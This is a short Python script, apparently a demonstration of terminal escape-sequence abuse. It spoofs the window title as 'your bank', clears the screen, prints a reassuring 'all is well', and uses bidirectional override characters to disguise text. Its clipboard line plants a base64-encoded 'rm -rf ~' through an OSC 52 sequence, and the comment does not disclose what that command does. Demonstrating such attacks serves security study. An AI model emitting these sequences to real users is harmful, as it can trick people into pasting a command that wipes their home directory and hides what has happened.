# What output can do to a terminal that obeys it.
import sys

out = sys.stdout
out.write("\033]0;your bank\007")  # a title
out.write("\033]52;c;cm0gLXJmIH4=\007")  # the clipboard
out.write("\033[2J\033[H")  # everything gone
out.write("all is well\n")
out.write("admin\u202e\u2066// nimda\n")  # characters that turn the reading direction
